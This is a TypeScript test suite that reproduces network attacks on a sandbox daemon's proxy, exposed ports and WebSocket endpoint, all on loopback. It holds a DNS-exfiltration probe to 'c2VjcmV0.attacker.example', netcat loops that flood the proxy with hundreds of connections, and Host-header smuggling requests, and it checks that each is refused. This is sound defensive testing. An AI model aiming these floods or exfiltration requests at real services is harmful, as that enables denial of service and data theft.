/**
 * Attacks on the daemon through its network paths (issue 12), each reproduced against a real
 * daemon: a sandbox speaking to its proxy, and a host client speaking to an exposed port or
 * the WebSocket endpoint. Destinations are loopback servers this test starts; names map to
 * them through NOOK_PROXY_HOSTS, and NOOK_PROXY_DNS points the proxy at a nameserver this
 * test runs on loopback, which counts what it is asked.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { closeSync, existsSync, mkdtempSync, openSync, readdirSync, statSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { connect } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import type { Sandbox } from '../../src/sdk/client.js';
import { DAEMON_MAIN, TestDaemon, hostProcessesWith, waitFor } from '../helpers/daemon.js';

/** A TestDaemon whose stderr is an append-mode log file, as `nook` starts it (for rotation and growth). */
class FileLogDaemon extends TestDaemon {
  readonly logPath = join(this.stateDir, 'nookd.log');
  override async start(): Promise<void> {
    const fd = openSync(this.logPath, 'a', 0o600);
    const proc = spawn(process.execPath, [DAEMON_MAIN], { env: this.env, stdio: ['ignore', fd, fd] });
    closeSync(fd);
    this.proc = proc;
    const deadline = Date.now() + 30_000;
    while (Date.now() < deadline) {
      if (proc.exitCode !== null) throw new Error(`nookd exited ${proc.exitCode}`);
      try {
        await this.client.health();
        return;
      } catch {
        await new Promise((r) => setTimeout(r, 50));
      }
    }
    throw new Error('nookd did not answer');
  }
}

/** A nameserver on loopback that answers every A query with 127.0.0.1 and remembers the names. */
function startNameserver(): Promise<{ socket: UdpSocket; port: number; asked: string[] }> {
  const asked: string[] = [];
  const socket = createSocket('udp4');
  socket.on('message', (q, from) => {
    const labels: string[] = [];
    let i = 12;
    while (i < q.length && q[i] !== 0) {
      const len = q[i] ?? 0;
      labels.push(q.subarray(i + 1, i + 1 + len).toString());
      i += len + 1;
    }
    asked.push(labels.join('.'));
    const question = q.subarray(12, i + 5);
    const header = Buffer.from([q[0] ?? 0, q[1] ?? 0, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0]);
    const answer = Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 127, 0, 0, 1]);
    socket.send(Buffer.concat([header, question, answer]), from.port, from.address);
  });
  return new Promise((resolve) => socket.bind(0, '127.0.0.1', () => resolve({ socket, port: socket.address().port, asked })));
}

/** Raw bytes to a TCP port or unix socket; resolves with everything until the peer closes. */
export function rawExchange(target: { port: number } | { path: string }, bytes: string, timeoutMs = 5000): Promise<string> {
  return new Promise((resolve) => {
    const s = 'port' in target ? connect(target.port, '127.0.0.1') : connect(target.path);
    let got = '';
    const timer = setTimeout(() => {
      s.destroy();
      resolve(got);
    }, timeoutMs);
    s.on('data', (b: Buffer) => (got += b.toString('latin1')));
    s.on('close', () => {
      clearTimeout(timer);
      resolve(got);
    });
    s.on('error', () => undefined);
    s.on('connect', () => s.write(bytes, 'latin1'));
  });
}

const openFds = (pid: number): number => readdirSync(`/proc/${pid}/fd`).length;
const fileSize = (p: string): number => (existsSync(p) ? statSync(p).size : 0);

describe('network attacks on the daemon (loopback only)', () => {
  let d: FileLogDaemon;
  let echo: Server;
  let port = 0;
  let ns: Awaited<ReturnType<typeof startNameserver>>;

  before(async () => {
    // Answers with the Host header it was sent, so the test sees what the proxy forwarded.
    echo = createServer((req, res) => res.end(`host=${req.headers.host ?? ''}\n`));
    await new Promise<void>((r) => echo.listen(0, '127.0.0.1', () => r()));
    port = (echo.address() as { port: number }).port;
    ns = await startNameserver();
    d = new FileLogDaemon(mkdtempSync('/tmp/nookt-'), {
      NOOK_PROXY_HOSTS: 'allowed.test=127.0.0.1',
      NOOK_PROXY_DNS: `127.0.0.1:${ns.port}`,
      NOOK_PROXY_HEAD_TIMEOUT_MS: '1500',
      NOOK_PROXY_MAX_CONNECTIONS: '40',
    });
    await d.start();
  });
  after(async () => {
    await d.teardown();
    echo.close();
    ns.socket.close();
  });

  const daemonPid = (): number => d.proc?.pid ?? 0;
  const sh = (sb: Sandbox, script: string, timeoutMs = 60_000) => sb.exec(['sh', '-c', script], { timeoutMs });
  const viaProxy = (sb: Sandbox, head: string) => sh(sb, `printf '${head}' | nc 127.0.0.1 3128`, 15_000);

  it('finding 2: bad percent-encoding on an exposed port and a WebSocket upgrade is a 400, and the daemon lives', async () => {
    const sb = await d.client.sandboxes.create({ name: 'web', image: 'minimal' });
    void sb.exec(['nc', '-ll', '-p', '8001', '-e', 'cat'], { timeoutMs: 120_000 }).catch(() => undefined);
    const ex = await sb.expose(8001);
    for (const target of ['/?token=%', '/?token=%zz', '/x?a=1&token=%E0%A4%A']) {
      assert.match(await rawExchange({ port: ex.hostPort }, `GET ${target} HTTP/1.1\r\nHost: x\r\n\r\n`), /^HTTP\/1\.1 400 /, target);
    }
    const upgrade = (path: string) => rawExchange({ path: d.socket }, `GET ${path} HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n`);
    assert.match(await upgrade('/v1/sandboxes/%/pty'), /^HTTP\/1\.1 400 [\s\S]*INVALID_ARGUMENT/);
    assert.match(await upgrade('/v1/sandboxes/%E0%A4%A/pty'), /^HTTP\/1\.1 400 /);
    assert.match(await rawExchange({ path: d.socket }, 'POST /v1/sandboxes/%/stop HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n'), /^HTTP\/1\.1 400 /);
    assert.equal((await d.client.health()).ok, true);
    const passed = await rawExchange({ port: ex.hostPort }, `GET /echo?token=${ex.token} HTTP/1.1\r\n\r\n`, 1500);
    assert.ok(passed.startsWith('GET /echo?token='), `the right token still passes: ${JSON.stringify(passed.slice(0, 80))}`);
    await sb.destroy();
  });

  it('fuzz: random request heads at an exposed port and the WebSocket endpoint; the daemon still answers', async () => {
    const sb = await d.client.sandboxes.create({ name: 'fuzzed', image: 'minimal' });
    const ex = await sb.expose(8002);
    const piece = fc.stringOf(fc.constantFrom(...'%?&=#/ :token%E0%zz\t\r\nab'.split('')), { maxLength: 30 });
    await fc.assert(
      fc.asyncProperty(piece, piece, fc.string({ maxLength: 60 }), async (path, value, junk) => {
        const head = `GET /${path}?token=${value} HTTP/1.1\r\nAuthorization: Bearer ${value}\r\n${junk}\r\n\r\n`;
        await rawExchange({ port: ex.hostPort }, head, 1500);
        const ws = `GET /v1/sandboxes/${path}/pty HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n${junk}\r\n\r\n`;
        await rawExchange({ path: d.socket }, ws, 1500);
      }),
      { numRuns: 150 },
    );
    assert.equal((await d.client.health()).ok, true);
    await sb.destroy();
  });

  it('finding 3: CONNECT to port 99999 (and other bad heads) from a learn-mode sandbox is a 400, and the daemon lives', async () => {
    const sb = await d.client.sandboxes.create({ name: 'learner', image: 'minimal', network: 'learn' });
    for (const head of ['CONNECT allowed.test:99999 HTTP/1.1', 'CONNECT allowed.test:0 HTTP/1.1', 'CONNECT allowed.test:-1 HTTP/1.1', 'GET http://allowed.test:99999/ HTTP/1.1', 'GET http://allowed.test:0/ HTTP/1.1', 'CONNECT [zz]:80 HTTP/1.1', 'GET / HTTP/1.1', 'CONNECT a:80 HTTP/9.9']) {
      const r = await viaProxy(sb, `${head}\\r\\n\\r\\n`);
      assert.match(r.stdout, /^HTTP\/1\.1 400 /, head);
    }
    assert.equal((await d.client.health()).ok, true);
    assert.match((await viaProxy(sb, `GET http://allowed.test:${port}/ HTTP/1.1\\r\\n\\r\\n`)).stdout, /host=allowed\.test/, 'a good request still passes');
    await sb.destroy();
  });

  it('finding 4: aborted, silent and excess connections from a sandbox are not held; no host process per connection', async () => {
    const sb = await d.client.sandboxes.create({ name: 'holder', image: 'minimal', allowHosts: [`allowed.test:${port}`] });
    await viaProxy(sb, `GET http://allowed.test:${port}/ HTTP/1.1\\r\\n\\r\\n`);
    const baseline = openFds(daemonPid());
    // 300 connections that send part of a head and close (nc exits at stdin EOF after -w 0).
    const started = Date.now();
    await sh(sb, `for i in $(seq 300); do printf 'GET http://allowed.test/' | nc -w 1 127.0.0.1 3128 >/dev/null 2>&1 & if [ $((i % 30)) = 0 ]; then wait; fi; done; wait`, 120_000);
    process.stdout.write(`# 300 aborted connections took ${Date.now() - started} ms\n`);
    await waitFor(() => openFds(daemonPid()) <= baseline + 5, 10_000, `the daemon to let go of aborted connections (fds ${openFds(daemonPid())}, baseline ${baseline})`);
    process.stdout.write(`# daemon fds: baseline ${baseline}, after 300 aborted connections ${openFds(daemonPid())}\n`);
    // Silent connections: 60 at once against a cap of 40; the excess gets 503, all are gone after the head timeout.
    const silent = sh(sb, `for i in $(seq 60); do (sleep 5 | nc 127.0.0.1 3128 > /tmp/silent.$i 2>&1 &) ; done; sleep 1; grep -l '503 Service Unavailable' /tmp/silent.* | wc -l`, 30_000);
    const refused = Number((await silent).stdout.trim());
    assert.ok(refused >= 20, `the connections past the cap are refused (${refused} of 60)`);
    assert.ok(openFds(daemonPid()) <= baseline + 45, `at most the cap is held (${openFds(daemonPid())} vs ${baseline})`);
    await waitFor(() => openFds(daemonPid()) <= baseline + 5, 10_000, 'the head timeout to close silent connections');
    assert.deepEqual(hostProcessesWith('TCP-LISTEN:3128'), [], 'no socat on the host for egress');
    assert.equal((await d.client.health()).ok, true);
    await sb.destroy();
  });

  it('finding 5: a name the policy does not cover is never looked up (no DNS exfiltration)', async () => {
    const sb = await d.client.sandboxes.create({ name: 'dns', image: 'minimal', allowHosts: [`allowed.test:${port}`, `listed.example:${port}`] });
    const before = ns.asked.length;
    for (const name of ['c2VjcmV0.attacker.example', 'more-data.attacker.example']) {
      assert.match((await viaProxy(sb, `CONNECT ${name}:443 HTTP/1.1\\r\\n\\r\\n`)).stdout, /^HTTP\/1\.1 403 /);
      assert.match((await viaProxy(sb, `GET http://${name}/ HTTP/1.1\\r\\n\\r\\n`)).stdout, /^HTTP\/1\.1 403 /);
    }
    assert.deepEqual(ns.asked.slice(before), [], 'the nameserver heard nothing of the attacker names');
    assert.match((await viaProxy(sb, `CONNECT listed.example:1 HTTP/1.1\\r\\n\\r\\n`)).stdout, /^HTTP\/1\.1 403 [\s\S]*not port 1/);
    assert.deepEqual(ns.asked.slice(before), [], 'nor of a listed name on an unlisted port');
    // The control: a listed name is looked up (and refused because it resolves to loopback).
    assert.match((await viaProxy(sb, `CONNECT listed.example:${port} HTTP/1.1\\r\\n\\r\\n`)).stdout, /^HTTP\/1\.1 403 [\s\S]*resolves to 127\.0\.0\.1/);
    assert.deepEqual(ns.asked.slice(before), ['listed.example']);
    await sb.destroy();
  });

  it('finding 12: plain HTTP carries the target authority as Host, not the client header', async () => {
    const sb = await d.client.sandboxes.create({ name: 'vhost', image: 'minimal', allowHosts: [`allowed.test:${port}`] });
    const r = await viaProxy(sb, `GET http://allowed.test:${port}/ HTTP/1.1\\r\\nHost: admin.internal\\r\\nhost: second.internal\\r\\n\\r\\n`);
    assert.match(r.stdout, new RegExp(`host=allowed\\.test:${port}\\n`));
    await sb.destroy();
  });

  it('finding 7: 2000 denied requests with 10 KB names, then 2000 distinct denied names, grow the log and db by a bounded amount', async () => {
    const sb = await d.client.sandboxes.create({ name: 'noisy', image: 'minimal', allowHosts: [`allowed.test:${port}`] });
    const dbFiles = readdirSync(d.stateDir).filter((f) => f.endsWith('.db') || f.endsWith('.db-wal')).map((f) => join(d.stateDir, f));
    const logSize = (): number => [d.logPath, `${d.logPath}.1`, `${d.logPath}.2`, `${d.logPath}.3`].reduce((n, p) => n + fileSize(p), 0);
    const dbSize = (): number => dbFiles.reduce((n, p) => n + fileSize(p), 0);
    const log0 = logSize();
    const db0 = dbSize();
    const long = 'a'.repeat(10_000);
    const big = await sh(sb, `n=0; for i in $(seq 2000); do printf 'CONNECT ${long}$i.test:443 HTTP/1.1\\r\\n\\r\\n' | nc 127.0.0.1 3128 | head -c 12 >> /tmp/big & if [ $((i % 50)) = 0 ]; then wait; fi; done; wait; echo $(grep -o 'HTTP/1.1 400' /tmp/big | wc -l) $(grep -o 'HTTP/1.1 [0-9]*' /tmp/big | grep -vc ' 400')`, 300_000);
    const label = 'b'.repeat(60);
    const many = await sh(sb, `for i in $(seq 2000); do printf "CONNECT x$i.${label}.${label}.${label}.test:443 HTTP/1.1\\r\\n\\r\\n" | nc 127.0.0.1 3128 | head -c 12 >> /tmp/many & if [ $((i % 50)) = 0 ]; then wait; fi; done; wait; echo $(grep -o 'HTTP/1.1 403' /tmp/many | wc -l) $(grep -o 'HTTP/1.1 [0-9]*' /tmp/many | grep -vc ' 403')`, 300_000);
    await new Promise((r) => setTimeout(r, 11_000)); // one aggregation window
    const logGrowth = logSize() - log0;
    const dbGrowth = dbSize() - db0;
    process.stdout.write(`# 4000 hostile requests: log +${logGrowth} B, db +${dbGrowth} B\n`);
    assert.ok(logGrowth < 200_000, `log grew ${logGrowth} B (bound 200 KB)`);
    assert.ok(dbGrowth < 2_000_000, `db grew ${dbGrowth} B (bound 2 MB)`);
    // Every answer is the refusal; on a loaded 2-core host busybox nc may lose a connection or
    // two of its 50 at a time, which is the client's doing, so the count allows that much.
    for (const [r, code] of [[big, '400'], [many, '403']] as const) {
      const [refused = 0, other = 0] = r.stdout.trim().split(' ').map(Number);
      assert.ok(refused >= 1990, `${refused} of 2000 answered ${code}`);
      assert.equal(other, 0, `answers other than ${code}`);
    }
    const shown = await sb.network.show({ limit: 2000 });
    assert.ok(shown.decisions.length <= 200, `${shown.decisions.length} decisions recorded`);
    assert.ok(shown.decisions.some((x) => x.host === '*' && /more denials of \d+ other destinations/.test(x.reason)), 'the rest is counted in one record');
    assert.equal((await d.client.health()).ok, true);
    await sb.destroy();
  });
});
